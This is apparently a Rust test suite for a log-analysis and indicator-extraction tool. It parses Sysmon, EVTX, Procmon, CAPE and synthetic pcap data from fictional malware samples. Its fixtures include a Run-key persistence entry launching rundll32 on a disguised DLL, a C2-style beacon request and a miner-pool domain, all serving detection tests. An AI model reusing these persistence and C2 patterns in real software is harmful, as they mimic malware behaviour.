//! Log readers against the corpus ground truth, generated captures, and damaged input.
//!
//! Every log in `corpus/logs/` that has events (all but the analyst's text note) must be
//! recognised from its content, give every event `corpus/expected/logs/<name>.json` lists
//! (matched on the fields the ground truth gives), and give every indicator listed there
//! among the analysis's indicators. Captures are built here byte by byte with known DNS,
//! HTTP and TLS content; damaged input must give warnings and partial results.

use serde_json::Value;
use spoor::logs::analysis::{LogAnalysis, LogFindings};
use spoor::logs::{self, base_name, Action, Event, LogFormat, ReadReport};
use std::path::{Path, PathBuf};
use std::sync::Arc;

#[path = "evtx_writer/mod.rs"]
mod evtx_writer;
use evtx_writer::crc32;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn read(name: &str, data: &[u8]) -> (LogFormat, Vec<Event>, ReadReport) {
    let format = logs::detect(&data[..data.len().min(logs::SNIFF_BYTES)]);
    let mut events = Vec::new();
    let source: Arc<str> = Arc::from(name);
    let report = logs::read_events(format, &source, &mut &data[..], &mut |e| events.push(e));
    (format, events, report)
}

fn analyse(events: &[Event]) -> LogFindings {
    let mut a = LogAnalysis::new();
    for e in events {
        a.add(e);
    }
    a.finish()
}

fn s<'a>(v: &'a Value, key: &str) -> Option<&'a str> {
    v.get(key).and_then(Value::as_str)
}

fn strs(v: &Value, key: &str) -> Vec<String> {
    v.get(key)
        .and_then(Value::as_array)
        .map(|a| {
            a.iter()
                .filter_map(|x| x.as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

fn words(e: &Event, key: &str) -> Vec<String> {
    e.get(key)
        .map(|v| v.split_whitespace().map(str::to_string).collect())
        .unwrap_or_default()
}

/// Same moment, whatever the precision (`...03.1610000Z` vs `...03.161Z`).
fn same_time(a: &str, b: &str) -> bool {
    let cut = |t: &str| t.chars().take(23).collect::<String>();
    cut(a) == cut(b)
}

/// Whether `e` is the event the ground truth describes.
fn matches(format: &str, want: &Value, e: &Event) -> bool {
    let eq = |key: &str, got: Option<&str>| s(want, key).is_none_or(|w| got == Some(w));
    if format.starts_with("sysmon") || format == "evtx" {
        let id = want["event_id"].as_u64().map(|i| i.to_string());
        return e.get("event_id") == id.as_deref()
            && e.provenance.record_id == want["record_id"].as_u64()
            && e.get("channel") == s(want, "channel")
            && e.time
                .as_deref()
                .zip(s(want, "time"))
                .is_some_and(|(a, b)| same_time(a, b));
    }
    let Some(kind) = s(want, "type") else {
        return false;
    };
    match kind {
        "process" => {
            e.action == Action::ProcessCreate
                && e.process.pid == want["pid"].as_u64()
                && e.process.image.as_deref().map(base_name) == s(want, "image")
                && eq("command_line", e.process.command_line.as_deref())
        }
        "process_exec" => {
            e.action == Action::ProcessCreate && e.process.image.as_deref() == s(want, "path")
        }
        "process_start" => e.action == Action::ProcessStart && eq("image", Some(&e.target)),
        "process_create" => {
            e.action == Action::ProcessCreate
                && eq("command_line", e.process.command_line.as_deref())
        }
        "process_exit" => e.action == Action::ProcessExit,
        "mutex" => e.action == Action::Mutex && eq("name", Some(&e.target)),
        "file_write" => {
            matches!(e.action, Action::FileModify | Action::FileCreate)
                && eq("path", Some(&e.target))
        }
        "file_create" | "file_added" => {
            e.action == Action::FileCreate && eq("path", Some(&e.target))
        }
        "file_modified" => e.action == Action::FileModify && eq("path", Some(&e.target)),
        "folder_added" => e.action == Action::DirectoryCreate && eq("path", Some(&e.target)),
        "file_rename" => {
            e.action == Action::FileRename
                && eq("path", Some(&e.target))
                && eq("new_path", e.get("new_path"))
        }
        "directory_enum" => e.action == Action::DirectoryList,
        "registry_open" => e.action == Action::RegistryRead,
        "registry_set" | "registry_value_added" => {
            e.action == Action::RegistrySet
                && eq("key", Some(&e.target))
                && eq("data", e.get("data"))
        }
        "registry_value_modified" => {
            e.action == Action::RegistrySet
                && eq("key", Some(&e.target))
                && e.get("change") == Some("modified")
        }
        "registry_key_added" => e.action == Action::RegistryCreateKey && eq("key", Some(&e.target)),
        "dns_query" => {
            let answers = words(e, "answers");
            e.action == Action::DnsQuery
                && eq("qname", Some(&e.target))
                && eq("qtype", e.get("qtype"))
                && strs(want, "answers").iter().all(|a| answers.contains(a))
        }
        "http_request" => {
            e.action == Action::HttpRequest
                && s(want, "url").is_some_and(|u| e.target.starts_with(u))
                && eq("user_agent", e.get("user_agent"))
                && eq("method", e.get("method"))
                && eq("host", e.get("host"))
                && eq("uri", e.get("uri"))
                && eq("dst", e.get("dst"))
        }
        "tls_client_hello" => {
            e.action == Action::TlsClientHello
                && eq("sni", Some(&e.target))
                && eq("dst", e.get("dst"))
        }
        "tcp_payload" => {
            e.action == Action::NetworkData
                && eq("dst", e.get("dst"))
                && eq("protocol", e.get("protocol"))
        }
        "signature" => {
            e.action == Action::Signature
                && eq("name", Some(&e.target))
                && words(e, "ttp") == strs(want, "ttp")
        }
        _ => false,
    }
}

/// Whether the analysis found the indicator the ground truth lists.
fn found(findings: &LogFindings, want: &Value) -> bool {
    let (Some(kind), Some(value)) = (s(want, "type"), s(want, "value")) else {
        return false;
    };
    let same = |a: &str, b: &str| a.eq_ignore_ascii_case(b);
    findings.iocs.iter().any(|i| match kind {
        // a file name is the last part of a path; a "string" may be any type
        "file_name" => i.kind == "file_path" && same(base_name(&i.value), value),
        "string" => i.value == value,
        _ => i.kind == kind && same(&i.value, value),
    })
}

fn ground_truth() -> Vec<(PathBuf, Value)> {
    let dir = root().join("corpus/expected/logs");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .expect("ground truth directory")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    files.sort();
    files
        .into_iter()
        .map(|p| {
            let v = serde_json::from_slice(&std::fs::read(&p).expect("read")).expect("json");
            (p, v)
        })
        .collect()
}

#[test]
fn corpus_logs_give_their_expected_events_and_iocs() {
    let mut checked_events = 0;
    let mut checked_iocs = 0;
    let mut problems = Vec::new();
    let mut formats = std::collections::BTreeSet::new();
    for (truth_path, truth) in ground_truth() {
        let format = s(&truth, "format").unwrap_or_default().to_string();
        if format == "analyst_report_txt" {
            continue; // prose: the IOC scanner's job (tests/corpus_iocs.rs)
        }
        let rel = s(&truth, "path").expect("path");
        let data = std::fs::read(root().join(rel)).expect("corpus log");
        let (detected, events, report) = read(rel, &data);
        formats.insert(detected);
        let expected_format = match format.as_str() {
            "cape_report_json" => LogFormat::CapeReport,
            "sysmon_xml" => LogFormat::SysmonXml,
            "sysmon_json" => LogFormat::SysmonJson,
            "procmon_csv" => LogFormat::ProcmonCsv,
            "regshot_txt" => LogFormat::Regshot,
            "pcap" => LogFormat::Pcap,
            "evtx" => LogFormat::Evtx,
            other => panic!("{}: unknown format {other}", truth_path.display()),
        };
        assert_eq!(detected, expected_format, "{rel} detected as {detected}");
        assert!(report.warnings.is_empty(), "{rel}: {:?}", report.warnings);
        if format.starts_with("sysmon") || format == "evtx" || format == "regshot_txt" {
            // every record of these maps to exactly one event
            assert_eq!(
                events.len() as u64,
                truth["event_count"].as_u64().unwrap_or(0),
                "{rel}: event count"
            );
        }
        for want in truth["events"].as_array().into_iter().flatten() {
            checked_events += 1;
            if !events.iter().any(|e| matches(&format, want, e)) {
                let mut w = want.clone();
                if let Some(o) = w.as_object_mut() {
                    o.remove("match");
                }
                problems.push(format!("{rel}: no event for {w}"));
            }
        }
        let findings = analyse(&events);
        for group in truth["iocs"]
            .as_object()
            .into_iter()
            .flat_map(|g| g.values())
        {
            for want in group.as_array().into_iter().flatten() {
                checked_iocs += 1;
                if !found(&findings, want) {
                    problems.push(format!("{rel}: no indicator {want}"));
                }
            }
        }
    }
    eprintln!("corpus logs: {checked_events} events and {checked_iocs} indicators checked");
    assert!(formats.len() >= 7, "formats covered: {formats:?}");
    assert!(
        checked_events >= 90 && checked_iocs >= 100,
        "too little checked"
    );
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

#[test]
fn corpus_persistence_and_tree() {
    let path = "corpus/logs/sysmon/session-2024-03-12.xml";
    let data = std::fs::read(root().join(path)).expect("log");
    let (_, events, _) = read(path, &data);
    let f = analyse(&events);
    let run_key = f
        .persistence
        .iter()
        .find(|p| p.technique == "T1547.001")
        .expect("Run key found");
    assert_eq!(
        run_key.location,
        "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveStandaloneUpdater"
    );
    assert_eq!(
        run_key.runs.as_deref(),
        Some("rundll32.exe \"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\Update\\odsu.dll\",Start")
    );
    assert!(f.persistence.iter().any(|p| p.technique == "T1053.005"
        && p.location == "\\Microsoft\\Windows\\Maintenance\\CoalSvc"));
    // explorer.exe (4012) started the three samples; ashdrop started rundll32
    assert_eq!(f.process_tree.len(), 1);
    let explorer = &f.process_tree[0];
    assert_eq!(explorer.pid, Some(4012));
    assert_eq!(explorer.children.len(), 3);
    let ashdrop = &explorer.children[0];
    assert_eq!(ashdrop.pid, Some(4216));
    assert_eq!(ashdrop.children[0].pid, Some(4332));
    let r = &f.remediation;
    assert!(r
        .tasks_to_remove
        .contains("\\Microsoft\\Windows\\Maintenance\\CoalSvc"));
    assert!(r
        .files_to_delete
        .contains("C:\\Users\\alice\\AppData\\Roaming\\CoalSvc\\coalsvc.exe"));
    // deleted by the sample itself: nothing left to delete
    assert!(!r
        .files_to_delete
        .contains("C:\\Users\\alice\\AppData\\Local\\Temp\\mpdata.tmp"));
    assert!(r.addresses_to_block.contains("pool.coalpit.example.com"));
    // by program, never by the analysis machine's process id; a system program by the
    // command line the sample gave it
    assert!(r
        .processes_to_end
        .contains("C:\\Users\\alice\\Downloads\\ashdrop_v1_x64.exe"));
    assert!(r.system_processes_to_end.contains(
        "rundll32.exe \"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\Update\\odsu.dll\",Start"
    ));
    assert!(!r
        .processes_to_end
        .iter()
        .chain(&r.system_processes_to_end)
        .any(|p| p.to_ascii_lowercase().contains("explorer.exe") || p.contains("(43")));
    let domain = f
        .iocs
        .iter()
        .find(|i| i.kind == "domain" && i.value == "cdn.ashdrop.example.com")
        .expect("domain");
    assert!(domain
        .context
        .contains(&"resolved by rundll32.exe (4332)".to_string()));
}

#[test]
fn xml_and_json_exports_give_the_same_events() {
    let read_path = |p: &str| {
        let data = std::fs::read(root().join(p)).expect("log");
        read(p, &data).1
    };
    let xml = read_path("corpus/logs/sysmon/session-2024-03-12.xml");
    let json = read_path("corpus/logs/sysmon/session-2024-03-12.ndjson");
    assert_eq!(xml.len(), json.len());
    for (a, b) in xml.iter().zip(&json) {
        assert_eq!(a.action, b.action);
        assert_eq!(a.target, b.target);
        assert_eq!(a.process, b.process);
        assert_eq!(a.provenance.record_id, b.provenance.record_id);
    }
}

// ---- generated captures -------------------------------------------------------------

pub(crate) const GUEST: [u8; 4] = [192, 0, 2, 10];
pub(crate) const RESOLVER: [u8; 4] = [192, 0, 2, 1];
pub(crate) const SERVER: [u8; 4] = [203, 0, 113, 50];

fn checksum(data: &[u8]) -> u16 {
    let mut sum = 0u32;
    for pair in data.chunks(2) {
        let word = u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]);
        sum += u32::from(word);
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

fn ethernet(ethertype: u16, payload: &[u8]) -> Vec<u8> {
    let mut f = vec![0x02, 0, 0, 0, 0, 1, 0x02, 0, 0, 0, 0, 2];
    f.extend_from_slice(&ethertype.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

pub(crate) fn ipv4(proto: u8, src: [u8; 4], dst: [u8; 4], payload: &[u8]) -> Vec<u8> {
    let total = (20 + payload.len()) as u16;
    let mut h = vec![0x45, 0];
    h.extend_from_slice(&total.to_be_bytes());
    h.extend_from_slice(&[0, 1, 0x40, 0, 64, proto, 0, 0]);
    h.extend_from_slice(&src);
    h.extend_from_slice(&dst);
    let c = checksum(&h);
    h[10..12].copy_from_slice(&c.to_be_bytes());
    h.extend_from_slice(payload);
    ethernet(0x0800, &h)
}

fn ipv6(next: u8, src: [u8; 16], dst: [u8; 16], payload: &[u8]) -> Vec<u8> {
    let mut h = vec![0x60, 0, 0, 0];
    h.extend_from_slice(&(payload.len() as u16).to_be_bytes());
    h.extend_from_slice(&[next, 64]);
    h.extend_from_slice(&src);
    h.extend_from_slice(&dst);
    h.extend_from_slice(payload);
    ethernet(0x86dd, &h)
}

pub(crate) fn udp(sport: u16, dport: u16, payload: &[u8]) -> Vec<u8> {
    let mut u = Vec::new();
    u.extend_from_slice(&sport.to_be_bytes());
    u.extend_from_slice(&dport.to_be_bytes());
    u.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    u.extend_from_slice(&[0, 0]); // checksum optional over IPv4
    u.extend_from_slice(payload);
    u
}

pub(crate) fn tcp(sport: u16, dport: u16, flags: u8, payload: &[u8]) -> Vec<u8> {
    let mut t = Vec::new();
    t.extend_from_slice(&sport.to_be_bytes());
    t.extend_from_slice(&dport.to_be_bytes());
    t.extend_from_slice(&[0, 0, 0, 1, 0, 0, 0, 0, 0x50, flags, 0xff, 0xff, 0, 0, 0, 0]);
    t.extend_from_slice(payload);
    t
}

fn dns_name(name: &str) -> Vec<u8> {
    let mut out = Vec::new();
    for label in name.split('.') {
        out.push(label.len() as u8);
        out.extend_from_slice(label.as_bytes());
    }
    out.push(0);
    out
}

pub(crate) fn dns(id: u16, name: &str, answer: Option<[u8; 4]>) -> Vec<u8> {
    let mut d = id.to_be_bytes().to_vec();
    d.extend_from_slice(if answer.is_some() {
        &[0x81, 0x80]
    } else {
        &[0x01, 0x00]
    });
    d.extend_from_slice(&[0, 1, 0, u8::from(answer.is_some()), 0, 0, 0, 0]);
    d.extend_from_slice(&dns_name(name));
    d.extend_from_slice(&[0, 1, 0, 1]);
    if let Some(addr) = answer {
        d.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4]);
        d.extend_from_slice(&addr);
    }
    d
}

fn client_hello(sni: &str) -> Vec<u8> {
    let name = sni.as_bytes();
    let mut sni_ext = Vec::new();
    sni_ext.extend_from_slice(&((name.len() + 3) as u16).to_be_bytes());
    sni_ext.push(0);
    sni_ext.extend_from_slice(&(name.len() as u16).to_be_bytes());
    sni_ext.extend_from_slice(name);
    let mut exts = vec![0, 0];
    exts.extend_from_slice(&(sni_ext.len() as u16).to_be_bytes());
    exts.extend_from_slice(&sni_ext);
    let mut body = vec![0x03, 0x03];
    body.extend_from_slice(&[7u8; 32]);
    body.push(0); // session id
    body.extend_from_slice(&[0, 2, 0x13, 0x01, 1, 0]);
    body.extend_from_slice(&(exts.len() as u16).to_be_bytes());
    body.extend_from_slice(&exts);
    let mut hs = vec![1];
    hs.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
    hs.extend_from_slice(&body);
    let mut rec = vec![0x16, 0x03, 0x01];
    rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    rec.extend_from_slice(&hs);
    rec
}

/// The frames of the generated session, in order.
fn session_frames() -> Vec<Vec<u8>> {
    let v6 = |last: u8| {
        let mut a = [0u8; 16];
        a[..4].copy_from_slice(&[0x20, 0x01, 0x0d, 0xb8]);
        a[15] = last;
        a
    };
    vec![
        ipv4(17, GUEST, RESOLVER, &udp(50000, 53, &dns(0x1234, "gate.example.net", None))),
        ipv4(
            17,
            RESOLVER,
            GUEST,
            &udp(53, 50000, &dns(0x1234, "gate.example.net", Some(SERVER))),
        ),
        ipv4(6, GUEST, SERVER, &tcp(50001, 80, 0x02, &[])),
        ipv4(
            6,
            GUEST,
            SERVER,
            &tcp(
                50001,
                80,
                0x18,
                b"GET /p/task.php?id=7 HTTP/1.1\r\nHost: gate.example.net\r\nUser-Agent: TestAgent/2.0\r\n\r\n",
            ),
        ),
        ipv4(6, GUEST, SERVER, &tcp(50002, 443, 0x18, &client_hello("tls.example.org"))),
        ipv6(6, v6(10), v6(0x17), &tcp(50003, 443, 0x18, &client_hello("v6.example.com"))),
    ]
}

pub(crate) fn pcap(frames: &[Vec<u8>]) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend_from_slice(&0xa1b2c3d4u32.to_le_bytes());
    out.extend_from_slice(&[2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    out.extend_from_slice(&65535u32.to_le_bytes());
    out.extend_from_slice(&1u32.to_le_bytes());
    for (i, f) in frames.iter().enumerate() {
        out.extend_from_slice(&(1_710_234_843u32 + i as u32).to_le_bytes());
        out.extend_from_slice(&(1000u32 * i as u32).to_le_bytes());
        out.extend_from_slice(&(f.len() as u32).to_le_bytes());
        out.extend_from_slice(&(f.len() as u32).to_le_bytes());
        out.extend_from_slice(f);
    }
    out
}

fn pcapng(frames: &[Vec<u8>]) -> Vec<u8> {
    let block = |kind: u32, body: &[u8]| {
        let len = (12 + body.len()) as u32;
        let mut b = kind.to_le_bytes().to_vec();
        b.extend_from_slice(&len.to_le_bytes());
        b.extend_from_slice(body);
        b.extend_from_slice(&len.to_le_bytes());
        b
    };
    let mut out = Vec::new();
    let mut shb = 0x1a2b3c4du32.to_le_bytes().to_vec();
    shb.extend_from_slice(&[1, 0, 0, 0]);
    shb.extend_from_slice(&u64::MAX.to_le_bytes());
    out.extend(block(0x0a0d0d0a, &shb));
    let mut idb = vec![1, 0, 0, 0];
    idb.extend_from_slice(&65535u32.to_le_bytes());
    out.extend(block(1, &idb));
    for (i, f) in frames.iter().enumerate() {
        let ts = (1_710_234_843u64 + i as u64) * 1_000_000;
        let mut epb = 0u32.to_le_bytes().to_vec();
        epb.extend_from_slice(&((ts >> 32) as u32).to_le_bytes());
        epb.extend_from_slice(&(ts as u32).to_le_bytes());
        epb.extend_from_slice(&(f.len() as u32).to_le_bytes());
        epb.extend_from_slice(&(f.len() as u32).to_le_bytes());
        epb.extend_from_slice(f);
        while !epb.len().is_multiple_of(4) {
            epb.push(0);
        }
        out.extend(block(6, &epb));
    }
    out
}

fn check_session(events: &[Event]) {
    let dns = events
        .iter()
        .find(|e| e.action == Action::DnsQuery)
        .expect("dns event");
    assert_eq!(dns.target, "gate.example.net");
    assert_eq!(dns.get("answers"), Some("203.0.113.50"));
    assert_eq!(dns.get("qtype"), Some("A"));
    let http = events
        .iter()
        .find(|e| e.action == Action::HttpRequest)
        .expect("http event");
    assert_eq!(http.target, "http://gate.example.net/p/task.php?id=7");
    assert_eq!(http.get("user_agent"), Some("TestAgent/2.0"));
    assert_eq!(http.get("dst"), Some("203.0.113.50:80"));
    let snis: Vec<(&str, Option<&str>)> = events
        .iter()
        .filter(|e| e.action == Action::TlsClientHello)
        .map(|e| (e.target.as_str(), e.get("dst")))
        .collect();
    assert_eq!(
        snis,
        vec![
            ("tls.example.org", Some("203.0.113.50:443")),
            ("v6.example.com", Some("[2001:db8::17]:443")),
        ]
    );
    assert!(events
        .iter()
        .any(|e| e.action == Action::NetworkConnect && e.target == "203.0.113.50"));
}

#[test]
fn generated_pcap_and_pcapng() {
    let frames = session_frames();
    let (format, events, report) = read("gen.pcap", &pcap(&frames));
    assert_eq!(format, LogFormat::Pcap);
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
    assert_eq!(report.records, frames.len() as u64);
    check_session(&events);
    assert_eq!(
        events[0].time.as_deref(),
        Some("2024-03-12T09:14:03.000000Z"),
        "the query's time"
    );
    let (format, events_ng, report) = read("gen.pcapng", &pcapng(&frames));
    assert_eq!(format, LogFormat::Pcapng);
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
    check_session(&events_ng);
    let targets = |ev: &[Event]| ev.iter().map(|e| e.target.clone()).collect::<Vec<_>>();
    assert_eq!(targets(&events), targets(&events_ng));
}

#[test]
fn nanosecond_pcap_times() {
    let mut data = pcap(&session_frames());
    data[..4].copy_from_slice(&0xa1b2_3c4du32.to_le_bytes());
    // the second packet's fraction field (1000) is 1000 ns = 1 µs
    let (format, events, report) = read("ns.pcap", &data);
    assert_eq!(format, LogFormat::Pcap);
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
    let http = events
        .iter()
        .find(|e| e.action == Action::HttpRequest)
        .expect("http");
    assert_eq!(http.time.as_deref(), Some("2024-03-12T09:14:06.000003Z"));
}

#[test]
fn truncated_pcap_keeps_what_came_before() {
    let data = pcap(&session_frames());
    for cut in [24 + 16 + 10, data.len() - 7, data.len() / 2] {
        let (_, events, report) = read("cut.pcap", &data[..cut]);
        assert!(
            !report.warnings.is_empty(),
            "cut at {cut}: a warning is expected"
        );
        if cut > data.len() / 3 {
            assert!(events.iter().any(|e| e.action == Action::DnsQuery));
        }
    }
    // every truncation point: no panic
    for cut in 0..data.len() {
        let _ = read("cut.pcap", &data[..cut]);
    }
}

/// A block that declares more bytes than the whole (small) capture holds ends the reading
/// with a warning at once, instead of growing the read buffer towards 16 MiB first (found
/// by the logs_pcap fuzz target: 80 ms and 40 MiB for a 9 KB input).
#[test]
fn a_block_longer_than_the_capture_is_a_truncation() {
    let frames = session_frames();
    let mut legacy = pcap(&frames);
    // A record header whose lengths say 200 MB.
    for field in [1_710_234_999u32, 0, 200_000_000, 200_000_000] {
        legacy.extend_from_slice(&field.to_le_bytes());
    }
    legacy.extend_from_slice(&[0u8; 64]);
    let mut ng = pcapng(&frames);
    ng.extend_from_slice(&6u32.to_le_bytes());
    ng.extend_from_slice(&200_000_000u32.to_le_bytes());
    ng.extend_from_slice(&[0u8; 64]);
    for (name, data) in [("long.pcap", legacy), ("long.pcapng", ng)] {
        let (_, events, report) = read(name, &data);
        assert!(
            report.warnings.iter().any(|w| w
                .message
                .contains("declares more bytes than the file holds")),
            "{name}: {:?}",
            report.warnings
        );
        assert!(
            events.iter().any(|e| e.action == Action::DnsQuery),
            "{name}: the packets before are kept"
        );
    }
}

#[test]
fn pcap_indicators_through_extract() {
    let extractor = spoor::Extractor::new(spoor::ExtractOptions {
        threads: 1,
        ..Default::default()
    });
    let iocs = extractor.extract_bytes("gen.pcap", &pcap(&session_frames()));
    let domain = iocs
        .iter()
        .find(|i| i.value == "gate.example.net")
        .expect("domain from DNS");
    assert_eq!(
        domain.sightings[0].field.as_deref(),
        Some("/packet/1/qname")
    );
    assert!(iocs.iter().any(|i| i.value == "v6.example.com"));
}

// ---- damaged and unusual input ------------------------------------------------------

#[test]
fn json_of_an_unknown_schema_gives_field_paths() {
    let doc = br#"{"meta": {"tool": "x"}, "results": [{"c2": "https://panel.example.com/gate"},
        {"notes": ["beacon to 198.51.100.7", "none"]}]}"#;
    let (format, events, _) = read("x.json", doc);
    assert_eq!(format, LogFormat::Json);
    assert!(events.is_empty());
    let extractor = spoor::Extractor::new(spoor::ExtractOptions {
        threads: 1,
        ..Default::default()
    });
    let iocs = extractor.extract_bytes("x.json", doc);
    let url = iocs
        .iter()
        .find(|i| i.kind == spoor::IocKind::Url)
        .expect("url");
    assert_eq!(url.sightings[0].field.as_deref(), Some("/results/0/c2"));
    let ip = iocs
        .iter()
        .find(|i| i.kind == spoor::IocKind::Ipv4)
        .expect("ip");
    assert_eq!(ip.sightings[0].field.as_deref(), Some("/results/1/notes/0"));
    assert_eq!(ip.sightings[0].line, Some(2));
    // cut anywhere: what came before is kept, with a warning
    let cut = &doc[..doc.len() - 20];
    let extraction = extractor.extract_reader("cut.json", &mut &cut[..]);
    assert!(extraction.sources[0].error.is_some());
    assert!(extraction
        .iocs
        .iter()
        .any(|i| i.kind == spoor::IocKind::Url));
}

#[test]
fn procmon_columns_in_another_order() {
    let path = "corpus/logs/procmon/lockjaw_v1-procmon.csv";
    let data = std::fs::read(root().join(path)).expect("log");
    let text = String::from_utf8(data.clone()).expect("utf-8");
    // reverse the column order of every row
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut writer = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(Vec::new());
    for record in reader.records() {
        let record = record.expect("row");
        let reversed: Vec<&str> = record.iter().rev().collect();
        writer.write_record(&reversed).expect("write");
    }
    let reordered = writer.into_inner().expect("csv");
    let (f1, original, _) = read(path, &data);
    let (f2, shuffled, report) = read("reordered.csv", &reordered);
    assert_eq!((f1, f2), (LogFormat::ProcmonCsv, LogFormat::ProcmonCsv));
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
    assert_eq!(original.len(), shuffled.len());
    for (a, b) in original.iter().zip(&shuffled) {
        assert_eq!(
            (a.action, &a.target, &a.process),
            (b.action, &b.target, &b.process)
        );
        assert_eq!(a.details, b.details);
    }
}

/// An EVTX file header (4096 bytes, valid checksum) followed by one chunk of garbage
/// behind a correct chunk magic. (The record path is exercised by the corpus's EVTX files,
/// see `evtx_corpus_files_are_regenerated_byte_for_byte`.)
fn evtx_with_corrupt_chunk() -> Vec<u8> {
    let mut h = vec![0u8; 4096];
    h[..8].copy_from_slice(b"ElfFile\0");
    h[24..32].copy_from_slice(&1u64.to_le_bytes()); // next record id
    h[32..36].copy_from_slice(&128u32.to_le_bytes()); // header size
    h[36..38].copy_from_slice(&1u16.to_le_bytes()); // minor version
    h[38..40].copy_from_slice(&3u16.to_le_bytes()); // major version
    h[40..42].copy_from_slice(&4096u16.to_le_bytes()); // header block size
    h[42..44].copy_from_slice(&1u16.to_le_bytes()); // chunk count
    let crc = crc32(&h[..120]);
    h[124..128].copy_from_slice(&crc.to_le_bytes());
    let mut chunk = vec![0u8; 65536];
    chunk[..8].copy_from_slice(b"ElfChnk\0");
    let mut state = 0x9e37_79b9u32;
    for b in chunk[8..].iter_mut() {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        *b = state as u8;
    }
    h.extend_from_slice(&chunk);
    h
}

#[test]
fn corrupt_evtx_chunk_is_a_warning() {
    let data = evtx_with_corrupt_chunk();
    let (format, events, report) = read("bad.evtx", &data);
    assert_eq!(format, LogFormat::Evtx);
    assert!(events.is_empty());
    assert!(
        !report.warnings.is_empty(),
        "a damaged chunk must be reported"
    );
    // a file cut inside its header
    let (_, events, report) = read("cut.evtx", &data[..100]);
    assert!(events.is_empty());
    assert!(!report.warnings.is_empty());
}

#[test]
fn damaged_logs_never_panic() {
    let dir = root().join("corpus/logs");
    let mut files: Vec<PathBuf> = walk(&dir);
    files.sort();
    let mut extra: Vec<(String, Vec<u8>)> = vec![
        ("gen.pcap".to_string(), pcap(&session_frames())),
        ("gen.pcapng".to_string(), pcapng(&session_frames())),
        ("bad.evtx".to_string(), evtx_with_corrupt_chunk()),
    ];
    for f in &files {
        extra.push((f.display().to_string(), std::fs::read(f).expect("read")));
    }
    for (name, data) in extra {
        // truncations at many points and single-byte damage across the file
        let step = (data.len() / 64).max(1);
        for cut in (0..data.len()).step_by(step) {
            let _ = read(&name, &data[..cut]);
        }
        let mut state = 0x2545_f491u32;
        for _ in 0..32 {
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            let mut damaged = data.clone();
            if damaged.is_empty() {
                break;
            }
            let at = state as usize % damaged.len();
            damaged[at] ^= 1 << (state % 8);
            let (_, events, _) = read(&name, &damaged);
            let _ = analyse(&events);
        }
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                out.extend(walk(&p));
            } else {
                out.push(p);
            }
        }
    }
    out
}

#[test]
fn procmon_sightings_point_at_their_row() {
    let path = "corpus/logs/procmon/lockjaw_v1-procmon.csv";
    let data = std::fs::read(root().join(path)).expect("log");
    let extractor = spoor::Extractor::new(spoor::ExtractOptions {
        threads: 1,
        ..Default::default()
    });
    let iocs = extractor.extract_bytes(path, &data);
    let note = iocs
        .iter()
        .find(|i| i.value == "C:\\README_LOCKJAW.txt")
        .expect("ransom note path");
    let text = String::from_utf8_lossy(&data);
    let line = text
        .lines()
        .position(|l| l.contains("README_LOCKJAW.txt"))
        .expect("in the file") as u64
        + 1;
    assert_eq!(note.sightings[0].line, Some(line));
    assert_eq!(note.sightings[0].field.as_deref(), Some("/10/Path"));
}

#[test]
fn truncated_sandbox_report_keeps_the_events_before_the_cut() {
    let path = "corpus/logs/cape/ashdrop_v1-report.json";
    let data = std::fs::read(root().join(path)).expect("report");
    let cut = &data[..data.len() * 3 / 5];
    let (format, events, report) = read(path, cut);
    assert_eq!(format, LogFormat::CapeReport);
    assert_eq!(report.warnings.len(), 1, "{:?}", report.warnings);
    assert!(events.iter().any(|e| e.action == Action::Sample));
    assert!(events
        .iter()
        .any(|e| e.action == Action::Mutex && e.target == "Local\\ADRP-9b1e5c"));
}

/// The body of the `logs_*` fuzz targets, compiled and run here on the corpus logs and
/// their truncations so that it cannot rot between fuzzing sessions.
#[path = "../fuzz/src/lib.rs"]
mod fuzz_body;

/// The structured log formats `corpus/logs` holds a log of.
pub(crate) const CORPUS_LOG_FORMATS: [LogFormat; 8] = [
    LogFormat::CapeReport,
    LogFormat::SysmonXml,
    LogFormat::SysmonJson,
    LogFormat::Evtx,
    LogFormat::ProcmonCsv,
    LogFormat::Regshot,
    LogFormat::Pcap,
    LogFormat::Json,
];

#[test]
fn fuzz_target_body_runs_on_the_corpus() {
    let formats = CORPUS_LOG_FORMATS;
    let mut inputs: Vec<Vec<u8>> = walk(&root().join("corpus/logs"))
        .iter()
        .map(|p| std::fs::read(p).expect("read"))
        .collect();
    inputs.push(evtx_with_corrupt_chunk());
    inputs.push(pcapng(&session_frames()));
    for data in &inputs {
        for format in formats {
            fuzz_body::check(format, data);
            fuzz_body::check(format, &data[..data.len() / 2]);
        }
    }
}

// ---- the corpus's EVTX files --------------------------------------------------------

/// The Event Viewer XML export the EVTX files are written from.
